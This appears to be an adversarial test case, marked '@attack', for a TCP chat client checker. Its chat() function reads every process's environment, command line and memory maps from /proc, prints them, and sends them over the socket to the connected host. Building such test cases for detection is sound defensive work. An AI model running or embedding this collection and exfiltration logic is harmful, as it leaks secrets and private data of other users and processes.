# @attack  a client that says all it can read of everybody's environment, command line and memory maps, and prints it
# @expect  not tcp_chat.client.listens-first
import glob
import socket


def chat(host, port):
    with socket.create_connection((host, port)) as sock:
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"):
            try:
                with open(path, "rb") as file:
                    found = file.read()
            except OSError:
                continue
            print(found.decode("utf-8", "replace"))
            sock.sendall(found)
